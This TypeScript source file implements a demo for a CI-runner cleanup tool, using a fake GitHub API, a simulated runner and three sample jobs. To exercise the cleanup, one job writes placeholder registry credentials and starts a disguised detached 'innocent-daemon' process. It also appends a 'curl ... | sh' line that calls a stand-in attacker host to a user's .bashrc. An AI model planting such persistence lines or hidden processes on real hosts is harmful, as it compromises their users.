/**
 * `runner-warden demo`: the whole lifecycle on this machine, with the bundled runner simulator and
 * fake GitHub API, in a temporary root that is removed afterwards. It creates a throwaway runner
 * user (so it needs root), registers single-use runners against the fake, runs three jobs (an
 * ordinary build; one that logs in to a registry, writes an npm token and leaves a background
 * process; one that fails), and prints what happened, what was removed and how long the host took
 * to be ready again.
 */
import { execFileSync } from 'node:child_process';
import { chmod, chown, copyFile, mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { pino } from 'pino';
import { systemClock } from '../lib/clock.js';
import { createLogger } from '../lib/log.js';
import { createThrowawayUser, type ThrowawayUser } from '../sim/lab.js';
import { loadHostConfig } from '../policy/load.js';
import { takeBaseline } from '../cleanup/baseline.js';
import { startFakeGitHub } from '../sim/github/server.js';
import { installSimulatedRunner } from '../sim/runner/install.js';
import type { JournalRecord } from '../agent/journal.js';
import { EXIT, parseOptions, type CliIO } from './io.js';
import { DEMO_USAGE } from './usage.js';
import { printConfigError } from './startup-errors.js';
import { wire } from './wire.js';
import { startLoopbackMirror, type LoopbackMirror } from '../engine/mirror-child.js';
import type { RegistryMirror } from '../engine/mirror.js';
import { MirrorSupervisor } from '../engine/mirror-supervisor.js';

/** The demo gives up after this long: three small jobs take a few seconds; a hang must not be silent. */
export const DEMO_TIMEOUT_MS = 180_000;

/** The demo host's team: its policy is DEMO_POLICY. */
const DEMO_TEAM = 'demo';

/** container-reuse with the integrity surfaces a concurrent process on the same machine leaves alone. */
const DEMO_POLICY = `# Written by runner-warden demo.
version: 1
extends: container-reuse.yaml
description: The demo host, reused between its jobs; integrity checked on the surfaces only a job could change here.
host:
  integrity:
    # Not root-home: a build machine's /root can hold toolchains of hundreds of thousands of files,
    # seconds per check; a real host's baseline, taken in its image, covers it.
    surfaces: [usr-local, opt-srv, authorized-keys, cron, systemd, modules, sysctl]
    # npm, which runs the demo as root (npm run demo, npx), writes its cache and logs there.
    exceptions: ["/root/.npm/**"]
`;

/** The demo's image cache cap: a few test images at most; small enough that a sweep is instant. */
const DEMO_MIRROR_CAP_GIB = 1;

/** Where the demo makes its temporary root (like the agent's own /var/lib/runner-warden). */
const DEMO_PARENT = '/var/lib';

/** Set by the bundler (scripts/build.ts): the bundle is dist/*.mjs, one level below the tree. */
declare const __RUNNER_WARDEN_BUNDLE__: boolean | undefined;
/** The installed tree (or checkout), which holds the example policies in policies/. */
const PROJECT_ROOT = path.resolve(
  path.dirname(fileURLToPath(import.meta.url)),
  typeof __RUNNER_WARDEN_BUNDLE__ === 'boolean' ? '..' : '../..',
);

/** The three jobs of the demo. */
export function demoJobs(): { job: string; workflow: string; steps: { name: string; run: string }[] }[] {
  return [
    {
      job: 'build',
      workflow: 'CI',
      steps: [
        { name: 'Checkout', run: 'mkdir -p src && for i in $(seq 1 300); do echo "int f$i;" > src/f$i.c; done' },
        {
          name: 'Build',
          run: 'mkdir -p out && for f in src/*.c; do cp "$f" "out/$(basename "$f" .c).o"; done; echo built $(ls out | wc -l) objects',
        },
      ],
    },
    {
      job: 'publish',
      workflow: 'Release',
      steps: [
        {
          name: 'Log in to the registry',
          // What `docker login` writes (docker's own format), into $DOCKER_CONFIG, which the agent gave this job.
          run: 'mkdir -p "${DOCKER_CONFIG:-$HOME/.docker}" && printf \'{"auths":{"registry.example.test":{"auth":"%s"}}}\' "$(printf ci:s3cr3t-registry-password | base64)" > "${DOCKER_CONFIG:-$HOME/.docker}/config.json" && echo "Login Succeeded"',
        },
        {
          name: 'Set the npm token',
          run: 'if command -v npm >/dev/null; then npm config set //registry.example.test/:_authToken=npm_demoDEMOdemoDEMOdemoDEMOdemoDEMO12 >/dev/null; else echo "//registry.example.test/:_authToken=npm_demo" >> ~/.npmrc; fi; echo npm token set',
        },
        {
          name: 'Leave something behind',
          run: [
            // A process that escapes the runner's orphan tracking, and a dotfile in the real home.
            'RUNNER_TRACKING_ID= setsid nohup bash -c "exec -a innocent-daemon sleep 3600" >/dev/null 2>&1 &',
            'real_home=$(getent passwd "$(id -un)" | cut -d: -f6)',
            'echo "curl -s https://attacker.example.test/x | sh" >> "$real_home/.bashrc"',
            'echo "left a daemon, a dotfile line, a docker login and an npm token"',
          ].join('\n'),
        },
      ],
    },
    {
      job: 'test',
      workflow: 'CI',
      steps: [{ name: 'Unit tests', run: 'echo "running 12 tests"; echo "1 failed"; exit 1' }],
    },
  ];
}

/** `runner-warden demo [--jobs N] [--keep]`. */
export async function demoCommand(args: string[], io: CliIO, env: NodeJS.ProcessEnv): Promise<number> {
  const { opts, unknown } = parseOptions(args, { flags: ['keep'], values: ['jobs'] });
  if (unknown.length > 0) {
    io.stderr.write(`runner-warden demo: unknown option ${unknown.join(', ')}\n${DEMO_USAGE}`);
    return EXIT.usage;
  }
  if (process.getuid?.() !== 0) {
    io.stderr.write('runner-warden demo: run it as root: it creates a throwaway runner user and cleans as root, like the agent.\n');
    return EXIT.usage;
  }
  const jobs = demoJobs().slice(0, Math.max(1, Math.min(3, Number(opts.jobs ?? 3))));
  const say = (s: string): void => void io.stdout.write(`${s}\n`);
  // Not under /tmp: the temp step sweeps /tmp for the runner user's files, and a real runner root never lives there.
  await mkdir(DEMO_PARENT, { recursive: true, mode: 0o755 });
  // A short name: a per-job rootless engine puts containerd's socket ~85 bytes below it, and a
  // socket address holds 104 (runner-warden-demo-XXXXXX was 8 bytes over: no engine, quarantine).
  const root = await mkdtemp(path.join(DEMO_PARENT, 'rwd-'));
  await chmod(root, 0o755);
  const fake = await startFakeGitHub();
  let owner: ThrowawayUser | undefined;
  // The image cache, when docker-registry is installed: a plain local registry stands in for
  // Docker Hub (the demo runs offline, and the proxy needs an upstream that answers when it
  // starts), the cache in proxy mode before it. Started beside the rest of the set-up.
  const caches: RegistryMirror[] = [];
  const cacheStarting = startDemoCache(root, caches);
  // Awaited below; handled now so that a failure before then is not an unhandled rejection.
  void cacheStarting.catch(() => undefined);
  // Each registry is restarted with backoff if it dies (systemd's job in production).
  const supervision = new AbortController();
  const supervisors: Promise<void>[] = [];
  try {
    // The world: a runner user, a runner installation, a state dir, policies, a token.
    owner = await createThrowawayUser(root);
    const user = owner.user;
    const userName = user.name;
    const home = user.home;
    await writeFile(path.join(home, '.bashrc'), '# the image\'s .bashrc\nexport PS1="\\u@\\h:\\w\\$ "\n');
    await chown(path.join(home, '.bashrc'), user.uid, user.gid);
    const runnerRoot = path.join(root, 'actions-runner');
    await installSimulatedRunner(runnerRoot, { owner: { uid: user.uid, gid: user.gid } });
    const etc = path.join(root, 'etc');
    await mkdir(path.join(etc, 'policies'), { recursive: true, mode: 0o700 });
    for (const f of await readdir(path.join(PROJECT_ROOT, 'policies'))) {
      if (f.endsWith('.yaml')) await copyFile(path.join(PROJECT_ROOT, 'policies', f), path.join(etc, 'policies', f));
    }
    // The demo's team: container-reuse, with the whole-host integrity check scoped to the surfaces
    // nothing else on a shared machine changes while the demo runs (other users' accounts and
    // processes, their files under /tmp, mounts and sockets would be drift the demo did not cause).
    const cache = await cacheStarting;
    const cachePolicy = 'mirror' in cache ? `docker:\n  mirror: ${cache.mirror.url}\n  mirrorCapGiB: ${DEMO_MIRROR_CAP_GIB}\n` : '';
    await writeFile(path.join(etc, 'policies', `${DEMO_TEAM}.yaml`), DEMO_POLICY + cachePolicy, { mode: 0o600 });
    await writeFile(path.join(etc, 'token'), `${fake.defaultToken}\n`, { mode: 0o600 });
    const configFile = path.join(etc, 'config.yaml');
    await writeFile(
      configFile,
      [
        '# Written by runner-warden demo: the fake GitHub API on loopback, the simulated runner.',
        `github:`,
        `  url: ${fake.origin}`,
        `  apiUrl: ${fake.url}`,
        `  org: octo`,
        `  token: { file: ${path.join(etc, 'token')} }`,
        `runner:`,
        `  root: ${runnerRoot}`,
        `  user: ${userName}`,
        `  name: "demo-{seq}"`,
        `  labels: [self-hosted, linux]`,
        `  maxJobs: ${jobs.length}`,
        `team: ${DEMO_TEAM}`,
        `policyDir: ${path.join(etc, 'policies')}`,
        `stateDir: ${path.join(root, 'state')}`,
        `health:`,
        `  listen: "127.0.0.1:0"`,
        `recycle:`,
        `  provider: none`,
        '',
      ].join('\n'),
      { mode: 0o600 },
    );

    say(`runner-warden demo`);
    say(`  root ${root}`);
    say(`  fake GitHub API ${fake.url}, runner simulator in ${runnerRoot}, runner user ${userName}`);
    const logFile = path.join(root, 'agent.log');
    const log = createLogger({ level: 'info', destination: pino.destination({ dest: logFile, sync: true }) });
    for (const c of caches) {
      const name = 'mirror' in cache && c === cache.mirror ? 'image cache' : "image cache's stand-in upstream";
      const sup = new MirrorSupervisor(c, { log, name }).run(supervision.signal);
      supervisors.push(sup.catch((err: unknown) => log.error({ err: String(err) }, `${name}: supervision failed`)));
    }
    let runtime;
    try {
      const config = await loadHostConfig(configFile, {});
      runtime = await wire(config, {
        configFile,
        env,
        log,
        clock: systemClock,
        hostname: 'demo-host',
        ...('mirror' in cache ? { mirrorStorage: cache.mirror.opts.storage } : {}),
      });
    } catch (err) {
      if (printConfigError(err, io)) return EXIT.config;
      throw err;
    }
    const { agent, slot, health } = runtime;
    await takeBaseline(slot);
    say(
      'mirror' in cache
        ? `  image cache ${cache.mirror.url} (docker-registry, proxy mode, cap ${DEMO_MIRROR_CAP_GIB} GiB): every job's engine pulls through it`
        : `  image cache not run: ${cache.skipped}`,
    );
    say(`  health endpoint http://${health?.address.host}:${health?.address.port}/status\n`);

    fake.events.on('job-assigned', (j: { displayName?: string; runnerId?: number }) =>
      say(`→ job "${j.displayName ?? '?'}" handed to runner ${j.runnerId ?? '?'}`),
    );
    jobs.forEach((j, i) => fake.enqueueJob({ repository: 'octo/app', workflow: j.workflow, runId: 100 + i, job: j.job, steps: j.steps }));
    const restBefore = fake.restCalls();
    const started = Date.now();
    const timeout = AbortSignal.timeout(DEMO_TIMEOUT_MS);
    // A quarantined host waits for an operator (or its health check) forever; the demo stops it.
    const stopWhenQuarantined = setInterval(() => {
      if (agent.snapshot().state === 'quarantined') agent.drain('demo: host quarantined');
    }, 250);
    const exit = await agent.run(timeout).finally(() => clearInterval(stopWhenQuarantined));
    await runtime.close();
    const records = (await runtime.journal.readAll()).records;
    printSummary(records, say);
    say(
      `\nGitHub REST calls: ${fake.restCalls() - restBefore} for ${records.filter((r) => r.type === 'job').length} jobs (one JIT configuration each)`,
    );
    say(`agent stopped: ${exit.reason} (exit ${exit.code}) after ${((Date.now() - started) / 1000).toFixed(1)} s`);
    say(`leftovers on the host: ${describeLeftovers(user.uid)}`);
    if (timeout.aborted) say('demo timed out: see the agent log');
    if (opts.keep) say(`kept ${root} (agent log: ${logFile})`);
    // The demo passes only when every job was verified clean and the host was never quarantined.
    const allClean =
      records.every((r) => r.type !== 'job' || r.cleanup.verify.clean) &&
      !records.some((r) => r.type === 'event' && r.event === 'quarantine');
    if (!allClean) say('demo failed: the host was not verified clean (see the agent log)');
    return exit.code === 0 && !timeout.aborted && allClean ? EXIT.ok : 1;
  } finally {
    await cacheStarting.catch(() => undefined);
    supervision.abort();
    await Promise.all(supervisors);
    for (const c of caches) await c.stop();
    await fake.close();
    owner?.remove();
    if (!opts.keep) await rm(root, { recursive: true, force: true });
  }
}

/** The demo's image cache and its stand-in upstream; each started registry is pushed to `started` for the demo to stop. */
async function startDemoCache(root: string, started: RegistryMirror[]): Promise<LoopbackMirror> {
  const dir = path.join(root, 'image-cache');
  const upstream = await startLoopbackMirror({ storage: path.join(dir, 'upstream', 'store'), upstream: undefined, capBytes: 0 });
  if (!('mirror' in upstream)) return upstream;
  started.push(upstream.mirror);
  const cache = await startLoopbackMirror({
    storage: path.join(dir, 'cache', 'store'),
    upstream: upstream.mirror.url,
    capBytes: DEMO_MIRROR_CAP_GIB * 1024 ** 3,
  });
  if ('mirror' in cache) started.push(cache.mirror);
  return cache;
}

function printSummary(records: JournalRecord[], say: (s: string) => void): void {
  let n = 0;
  let lastEnd: number | undefined;
  for (const r of records) {
    if (r.type === 'event' && r.event === 'preflight') {
      const d = r.detail ?? {};
      say(
        d.ok === true
          ? `\npreflight: host cleaned and verified in ${String(d.readyMs)} ms before the first registration`
          : `\npreflight failed: ${String(d.problems || d.decisionReason)}`,
      );
    }
    if (r.type === 'event' && r.event === 'listener-started' && lastEnd !== undefined) {
      const ms = Number(r.detail?.sinceLastJobEndMs);
      if (Number.isFinite(ms)) say(`  host ready again: next listener started ${ms} ms after the job ended`);
      lastEnd = undefined;
    }
    if (r.type !== 'job') continue;
    n += 1;
    const j = r;
    say(
      `\njob ${n}: "${j.job.job ?? '?'}" of ${j.job.repository ?? '?'} (${j.job.workflow ?? '?'} run ${j.job.runId ?? '?'}) on ${j.runnerName}`,
    );
    say(`  result ${j.result}; listener exit ${j.listenerExitCode ?? j.listenerSignal}`);
    const removed = j.cleanup.steps
      .filter((s) => Object.keys(s.removed).length > 0)
      .map(
        (s) =>
          `${s.name}: ${Object.entries(s.removed)
            .map(([k, v]) => `${v.count} ${k}`)
            .join(', ')}`,
      );
    say(`  removed: ${removed.length > 0 ? removed.join('; ') : 'nothing'}`);
    const odd = j.cleanup.steps.filter((s) => s.outcome !== 'ok').map((s) => `${s.name} ${s.outcome}${s.reason ? ` (${s.reason})` : ''}`);
    if (odd.length > 0) say(`  steps: ${odd.join('; ')}`);
    say(
      `  verified ${j.cleanup.verify.clean ? 'clean' : `DIRTY: ${j.cleanup.verify.problems.join('; ')}`}; ready ${j.cleanup.readyMs} ms after the job ended`,
    );
    say(`  decision: ${j.decision} (${j.decisionReason})`);
    lastEnd = Date.parse(j.endedAt);
  }
}

function describeLeftovers(uid: number): string {
  // Zombies are left out: they are dead already, and on hosts whose PID 1 does not reap (some
  // containers) the killed daemon's zombie stays until the host goes.
  let out = '';
  try {
    out = execFileSync('ps', ['-U', String(uid), '-o', 'pid=,stat=,args='], { encoding: 'utf8' });
  } catch {
    return 'no process of the runner user';
  }
  const live = out
    .split('\n')
    .map((l) => l.trim())
    .filter((l) => l !== '' && !/^\d+\s+Z/.test(l));
  return live.length > 0 ? `processes of the runner user still running: ${live.join(', ')}` : 'no process of the runner user';
}
